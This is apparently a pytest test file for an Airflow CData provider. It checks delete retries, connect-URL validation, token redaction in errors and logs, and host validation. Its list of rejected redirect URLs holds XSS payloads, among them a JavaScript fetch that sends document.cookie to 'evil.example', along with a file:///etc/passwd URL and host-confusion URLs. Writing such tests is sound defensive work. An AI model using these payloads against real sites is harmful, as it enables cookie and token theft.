"""What an answer may and may not do (issue 16: defects 5, 8, 9 and 12), sync and async.

* A delete whose answer was lost is retried; the retry's 404 means "already gone" (defect 5). A 404 on
  the first attempt stays an error, so DeleteConnectionOperator's XCom ``deleted`` names only ids CData
  confirmed it deleted.
* A connect URL is an absolute ``https://`` URL with a host (``http://`` on loopback): a ``javascript:``
  or ``data:`` ``redirectURL`` is an error that does not repeat it (defect 8).
* No snippet of any answer keeps any part of a token: a 200 that is not JSON, a 4xx/5xx, a redirect,
  echoing the Authorization header whole or cut (defect 9).
* A host that no HTTP client can use is a CDataConfigError naming ``host``, and nothing is sent
  (defect 12).

Every case talks real HTTP: to the emulator through a small forwarding proxy, or to a hostile server on
loopback (tests/test_reliability_hostile.py's RawServer).
"""

from __future__ import annotations

import asyncio
import json
import logging
import re
import socket
import time
from collections.abc import Callable, Iterator
from typing import Any

import pytest
import requests

from airflow_provider_cdata.exceptions import CDataAPIError, CDataConfigError
from airflow_provider_cdata.hooks import CDataHook, RetryPolicy
from tests.conftest import CData, cdata_connection
from tests.dag_runner import run_dag
from tests.test_hook_calls import Runner, runner_fixture
from tests.test_reliability_hostile import RawServer, http, send
from tests.test_reliability_leaks import record_minted_tokens

run = runner_fixture()
UNKNOWN_ID = "0b5f7d5c-3e1a-4c55-9a66-2f3b1e7c9d10"
REDIRECT = "https://app.example.com/done"


def point_at(monkeypatch: pytest.MonkeyPatch, cdata: CData, url: str, **extra: Any) -> None:
    """``cdata_default`` is the emulator's parent and child, at ``url`` (a proxy or a hostile server)."""
    connection = {**cdata_connection(cdata, **{"max_retries": 2, "timeout": 5, **extra}), "host": url}
    monkeypatch.setenv("AIRFLOW_CONN_CDATA_DEFAULT", json.dumps(connection))


def authorization(head: bytes) -> str:
    """The bearer token of a request head, as the server saw it."""
    match = re.search(rb"(?im)^authorization: bearer (\S+)\r?$", head)
    assert match, head[:200]
    return match.group(1).decode()


# -- defect 5: a retried delete answered 404 ------------------------------------------------------------
class DeleteProxy:
    """A loopback proxy in front of the emulator that plays a CData whose delete answers 404 for an id
    it does not have (the emulator answers 200, as CData's older pages say), and that carries out the
    first delete of each id in ``lose`` and then drops its answer (closes the connection unanswered).

    ``before`` scripts answers sent instead of forwarding, one per DELETE, first (e.g. a 429)."""

    def __init__(self, cdata: CData, lose: set[str] | None = None, before: list[bytes] | None = None) -> None:
        self.cdata = cdata
        self.lose = set(lose or ())
        self.before = list(before or [])
        self.deletes: list[str] = []
        self.server = RawServer(self._answer)

    @property
    def url(self) -> str:
        return self.server.url

    def _answer(self, conn: socket.socket, head: bytes) -> None:
        method, path, _ = head.split(b"\r\n", 1)[0].decode().split(" ", 2)
        connection_id = path.rsplit("/", 1)[-1]
        if method == "DELETE":
            self.deletes.append(connection_id)
            if self.before:
                conn.sendall(self.before.pop(0))
                return
            known = {c["id"] for c in self.cdata.emulator.connections(self.cdata.account_id)}
            if connection_id not in known:
                message = json.dumps(
                    {"error": {"code": 404, "message": f"Connection '{connection_id}' not found"}}
                )
                conn.sendall(http(404, message.encode()))
                return
        forwarded = requests.request(
            method,
            self.cdata.base_url.removesuffix("/api") + path,
            headers={"Authorization": f"Bearer {authorization(head)}"},
            timeout=5,
        )
        if method == "DELETE" and connection_id in self.lose:
            self.lose.discard(connection_id)
            return  # carried out; the answer is lost (RawServer closes the connection)
        conn.sendall(http(forwarded.status_code, forwarded.content))

    def stop(self) -> None:
        self.server.stop()


@pytest.fixture
def delete_proxy(
    cdata: CData, monkeypatch: pytest.MonkeyPatch, fast_retries: RetryPolicy
) -> Iterator[Callable[..., DeleteProxy]]:
    proxies: list[DeleteProxy] = []

    def start(**options: Any) -> DeleteProxy:
        proxies.append(DeleteProxy(cdata, **options))
        point_at(monkeypatch, cdata, proxies[-1].url)
        return proxies[-1]

    yield start
    for proxy in proxies:
        proxy.stop()


def test_a_delete_whose_answer_was_lost_is_retried_and_its_404_means_already_gone(
    cdata: CData, delete_proxy: Callable[..., DeleteProxy], run: Runner
) -> None:
    connection_id = cdata.emulator.add_connection(cdata.account_id)["id"]
    proxy = delete_proxy(lose={connection_id})
    assert run(CDataHook(), "delete_connection", connection_id) is None
    assert proxy.deletes == [connection_id, connection_id], "the lost answer was retried once"
    assert cdata.emulator.connections(cdata.account_id) == []
    assert cdata.emulator.counters.count("delete", 200) == 1, "the first attempt deleted it"


def test_a_404_on_the_first_delete_is_an_error_nothing_was_deleted(
    cdata: CData, delete_proxy: Callable[..., DeleteProxy], run: Runner
) -> None:
    proxy = delete_proxy()
    with pytest.raises(CDataAPIError) as caught:
        run(CDataHook(), "delete_connection", UNKNOWN_ID)
    assert caught.value.status_code == 404
    assert "not found" in caught.value.message
    assert proxy.deletes == [UNKNOWN_ID], "a 404 is not retried"


def test_a_404_after_a_429_is_an_error_the_429_deleted_nothing(
    cdata: CData, delete_proxy: Callable[..., DeleteProxy], run: Runner
) -> None:
    proxy = delete_proxy(before=[http(429, b'{"error": {"message": "slow down"}}', Retry_After="0")])
    with pytest.raises(CDataAPIError) as caught:
        run(CDataHook(), "delete_connection", UNKNOWN_ID)
    assert caught.value.status_code == 404
    assert proxy.deletes == [UNKNOWN_ID, UNKNOWN_ID]


def test_delete_operator_counts_a_lost_answer_as_deleted_and_an_unknown_id_as_failed(
    cdata: CData, delete_proxy: Callable[..., DeleteProxy]
) -> None:
    lost, plain = (cdata.emulator.add_connection(cdata.account_id)["id"] for _ in range(2))
    delete_proxy(lose={lost})
    result = run_dag("cdata_test_delete", {"ids": [lost, UNKNOWN_ID, plain]})
    assert result.state == "failed", "the unknown id failed the task"
    assert result.xcom("delete", key="deleted") == [lost, plain], "only ids CData confirmed gone"
    assert cdata.emulator.connections(cdata.account_id) == []


# -- defect 8: the connect URL is checked ------------------------------------------------------------------
TOKEN_IN_URL = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJjdXN0b21lciJ9.c2lnbmF0dXJlLW9mLXRoZS1jb25uZWN0LXRva2Vu"
NOT_CONNECT_URLS = {
    "javascript": f"javascript:alert(document.cookie)//?token={TOKEN_IN_URL}",
    "javascript, mixed case": f"JavaScript:fetch('https://evil.example/'+document.cookie)//{TOKEN_IN_URL}",
    "data": f"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{TOKEN_IN_URL}",
    "file": f"file:///etc/passwd?token={TOKEN_IN_URL}",
    "relative": f"/oem/user/connections/edit?token={TOKEN_IN_URL}",
    "scheme-relative": f"//evil.example/oem?token={TOKEN_IN_URL}",
    "no host": f"https:///oem?token={TOKEN_IN_URL}",
    "plain http to a remote host": f"http://evil.example/oem?token={TOKEN_IN_URL}",
    "credentials before the host": f"https://cloud.cdata.com@evil.example/oem?token={TOKEN_IN_URL}",
    "a newline": f"https://cloud.cdata.com/oem\n?token={TOKEN_IN_URL}",
    "a space": f"https://cloud.cdata.com/oem ?token={TOKEN_IN_URL}",
    "a port out of range": f"https://cloud.cdata.com:99999/oem?token={TOKEN_IN_URL}",
}
CONNECT_URLS = [
    f"https://cloud.cdata.com/oem/user/connections/edit?token={TOKEN_IN_URL}&driver=Salesforce",
    f"https://connect.example.com:8443/oem/user/connections/edit?token={TOKEN_IN_URL}",
    f"http://127.0.0.1:8765/oem/user/connections/edit?token={TOKEN_IN_URL}",
    f"http://localhost:8765/oem/user/connections/edit?token={TOKEN_IN_URL}",
]
CONNECT_CALLS = {
    "create": ("create_connection", ("Salesforce", REDIRECT)),
    "edit": ("edit_connection", (UNKNOWN_ID, REDIRECT)),
}


@pytest.fixture
def answers(
    cdata: CData, monkeypatch: pytest.MonkeyPatch, fast_retries: RetryPolicy
) -> Iterator[Callable[[Any], RawServer]]:
    """A hostile loopback server answering every request with ``answer`` (bytes, or a function of the
    request head), and ``cdata_default`` pointing at it."""
    servers: list[RawServer] = []

    def start(answer: Any) -> RawServer:
        if isinstance(answer, bytes):
            answer = send(answer)
        servers.append(RawServer(answer))
        point_at(monkeypatch, cdata, servers[-1].url, max_retries=1, timeout=2)
        return servers[-1]

    yield start
    for server in servers:
        server.stop()


@pytest.mark.parametrize("call", CONNECT_CALLS)
@pytest.mark.parametrize("case", NOT_CONNECT_URLS)
def test_a_redirect_url_that_is_not_a_connect_url_is_an_error_that_does_not_repeat_it(
    answers: Callable[[Any], RawServer], run: Runner, case: str, call: str
) -> None:
    url = NOT_CONNECT_URLS[case]
    server = answers(http(200, json.dumps({"redirectURL": url}).encode()))
    method, args = CONNECT_CALLS[call]
    with pytest.raises(CDataAPIError) as caught:
        run(CDataHook(), method, *args)
    error = caught.value
    assert error.status_code == 200
    assert "not a connect URL" in error.message
    shown = f"{error} {error!r} {error.args!r}"
    for piece in (url, TOKEN_IN_URL, *TOKEN_IN_URL.split("."), "alert", "evil.example", "/oem"):
        assert piece not in shown, piece
    assert len(server.requests) == 1, "a wrong 200 is not retried"


@pytest.mark.parametrize("call", CONNECT_CALLS)
@pytest.mark.parametrize("url", CONNECT_URLS)
def test_an_https_connect_url_on_any_host_or_http_on_loopback_is_returned(
    answers: Callable[[Any], RawServer], run: Runner, url: str, call: str
) -> None:
    answers(http(200, json.dumps({"redirectURL": url}).encode()))
    method, args = CONNECT_CALLS[call]
    assert run(CDataHook(), method, *args) == url


def test_plain_http_connect_urls_follow_the_api_root() -> None:
    """Plain http off loopback only on the API's own host, when the API root is itself plain http
    (allow_insecure_http: the docker-compose emulator)."""
    from airflow_provider_cdata.transport.answers import connect_url_problem

    page = "http://cdata-emulator:8765/oem/user/connections/edit?token=x"
    assert connect_url_problem(page, "http://cdata-emulator:8765/api") is None
    assert connect_url_problem(page, "https://cdata-emulator:8765/api") is not None
    assert connect_url_problem(page, "http://elsewhere:8765/api") is not None


def test_create_operator_pushes_no_javascript_url_to_xcom(
    answers: Callable[[Any], RawServer], cdata: CData
) -> None:
    answers(http(200, json.dumps({"redirectURL": NOT_CONNECT_URLS["javascript"]}).encode()))
    result = run_dag("cdata_test_create", {"data_source": "Salesforce"})
    assert result.state == "failed"
    with pytest.raises(KeyError):
        result.xcom("create")


# -- defect 9: no part of a token in any snippet ---------------------------------------------------------
def echoing(
    status: int, content_type: str, body: str, **headers: str
) -> Callable[[socket.socket, bytes], None]:
    """An answer echoing the request's token: ``{token}``, ``{head}`` (its header.claims part, a token
    cut before its signature), ``{signature}``, ``{tail}`` (the signature's last 40 characters) and
    ``{escaped}`` (the whole token, its first letter JSON-escaped as ``\\u0065``)."""

    def answer(conn: socket.socket, head: bytes) -> None:
        token = authorization(head)
        parts = {
            "token": token,
            "head": token.rsplit(".", 1)[0],
            "signature": token.rsplit(".", 1)[1],
            "tail": token[-40:],
            "escaped": "\\u0065" + token[1:],  # the token with its first letter JSON-escaped
        }
        filled = {name: value.format(**parts) for name, value in headers.items()}
        conn.sendall(http(status, body.format(**parts).encode(), content_type, **filled))

    return answer


ECHOES = {
    "200 text/html debug page": echoing(
        200,
        "text/html",
        "<html><body><h1>Debug</h1><pre>Authorization: Bearer {token}\nX-Cut: {head}</pre>"
        "<p>sig <b>{signature}</b> tail={tail}</p></body></html>",
    ),
    "200 invalid JSON": echoing(200, "application/json", '{{"connections": [{{"auth": "{head}.{signature}'),
    "403 JSON-escaped token": echoing(
        403, "application/json", '{{"error": {{"message": "token {escaped} is not allowed"}}}}'
    ),
    "400 cut token": echoing(400, "text/plain", "bad token {head} (signature ends {tail})"),
    "401 JSON message": echoing(401, "application/json", '{{"error": {{"message": "rejected {token}"}}}}'),
    "500 HTML page": echoing(
        500, "text/html", "<html><body><p>token=<i>{head}</i>.<i>{signature}</i></p></body></html>"
    ),
    "302 redirect": echoing(
        302,
        "text/html",
        '<a href="https://elsewhere.example/login?t={head}">Redirecting</a> {tail}',
        Location="https://elsewhere.example/login?token={token}",
    ),
}


def token_pieces(token: str) -> list[str]:
    header, claims, signature = token.split(".")
    return [token, f"{header}.{claims}", claims, signature, signature[-40:], signature[:40]]


def assert_no_token_in(text: str, tokens: list[str], where: str) -> None:
    assert tokens
    for token in tokens:
        for piece in token_pieces(token):
            assert piece not in text, f"{where}: a piece of a token ({piece[:12]}...)"
    assert not re.search(r"eyJ[A-Za-z0-9_-]{6,}", text), f"{where}: a JWT-shaped run"


@pytest.mark.parametrize("case", ECHOES)
def test_no_snippet_keeps_any_part_of_the_token(
    answers: Callable[[Any], RawServer], run: Runner, case: str
) -> None:
    server = answers(ECHOES[case])
    with pytest.raises(CDataAPIError) as caught:
        run(CDataHook(), "list_connections")
    error = caught.value
    tokens = [authorization(request) for request in server.requests]
    assert_no_token_in(f"{error}\n{error!r}\n{error.args!r}\n{error.message}", tokens, "the error")
    assert error.message, "the error still says something"


def test_no_part_of_the_token_reaches_the_task_log(
    answers: Callable[[Any], RawServer],
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
    capfd: pytest.CaptureFixture[str],
) -> None:
    minted = record_minted_tokens(monkeypatch)
    answers(ECHOES["200 text/html debug page"])
    caplog.set_level(logging.DEBUG, logger="airflow_provider_cdata")
    result = run_dag("cdata_test_list")
    assert result.state == "failed"
    out, err = capfd.readouterr()
    records = caplog.records
    logged = "\n".join(
        [out, err]
        + [r.getMessage() for r in records]
        + [repr(r.exc_info[1]) for r in records if r.exc_info and r.exc_info[1] is not None]
    )
    assert "not the JSON" in logged, "the failure was logged"
    assert_no_token_in(logged, minted, "the task log")


def test_no_part_of_the_token_reaches_the_triggers_event(
    answers: Callable[[Any], RawServer], monkeypatch: pytest.MonkeyPatch
) -> None:
    from airflow_provider_cdata.triggers import ConnectionTrigger

    minted = record_minted_tokens(monkeypatch)
    answers(ECHOES["200 text/html debug page"])
    trigger = ConnectionTrigger(criteria={"external_id": "x"}, poke_interval=0.1, deadline=time.time() + 20)

    async def events() -> list[dict[str, Any]]:
        return [event.payload async for event in trigger.run()]

    (event,) = asyncio.run(events())
    assert event["status"] == "error"
    assert "not the JSON" in event["message"]
    assert_no_token_in(json.dumps(event), minted, "the trigger's event")


# -- defect 12: a host no HTTP client can use ----------------------------------------------------------------
UNUSABLE_HOSTS = {
    "a space in the name": "https://exa mple.com/api",
    "a tab in the name": "https://exa\tmple.com/api",
    "a newline": "https://example.com\n/api",
    "a NUL": "https://example.com\x00/api",
    "a percent-encoded space": "https://exa%20mple.com/api",
    "an empty label": "https://cloud..cdata.com/api",
    "a label starting with a dash": "https://-cloud.cdata.com/api",
    "a backslash": "https://cloud.cdata.com\\@evil.example/api",
    "an empty userinfo": "https://@cloud.cdata.com/api",
    "a port out of range": "https://cloud.cdata.com:70000/api",
    "port 0": "https://cloud.cdata.com:0/api",
    "an empty host": "https://:443/api",
    "an empty query": "https://cloud.cdata.com/api?",
    "a fragment": "https://cloud.cdata.com/api#x",
}


@pytest.mark.parametrize("case", UNUSABLE_HOSTS)
def test_an_unusable_host_is_a_config_error_naming_host(
    cdata: CData, monkeypatch: pytest.MonkeyPatch, run: Runner, case: str
) -> None:
    point_at(monkeypatch, cdata, UNUSABLE_HOSTS[case])
    with pytest.raises(CDataConfigError) as caught:
        run(CDataHook(), "list_connections")
    assert caught.value.field == "host"
    assert "host" in str(caught.value)
    ok, message = CDataHook().test_connection()
    assert not ok
    assert "host" in message
    assert "Unexpected" not in message


@pytest.mark.parametrize(
    "where",
    [
        "/a pi",  # a space in the path: the clients would send it as %20
        "/a\tpi",  # dropped by urlsplit: not the URL the user wrote
        "/api?",
        "/api#frag",
    ],
)
def test_nothing_is_sent_for_an_unusable_host_on_a_live_server(
    cdata: CData,
    answers: Callable[[Any], RawServer],
    monkeypatch: pytest.MonkeyPatch,
    run: Runner,
    where: str,
) -> None:
    server = answers(http(200, b'{"connections": []}'))
    point_at(monkeypatch, cdata, server.url.removesuffix("/api") + where)
    with pytest.raises(CDataConfigError) as caught:
        run(CDataHook(), "list_connections")
    assert caught.value.field == "host"
    assert server.requests == [], "nothing was sent"


@pytest.mark.parametrize(
    "fields",
    [{"port": 70000}, {"schema": "a pi"}, {"schema": "api?x=1"}, {"schema": "api#x"}],
)
def test_an_unusable_port_or_path_field_is_a_config_error_naming_host(
    cdata: CData, monkeypatch: pytest.MonkeyPatch, fields: dict[str, Any]
) -> None:
    connection = {**cdata_connection(cdata), "host": "cloud.cdata.com", **fields}
    monkeypatch.setenv("AIRFLOW_CONN_CDATA_DEFAULT", json.dumps(connection))
    with pytest.raises(CDataConfigError) as caught:
        CDataHook().list_connections()
    assert caught.value.field == "host"
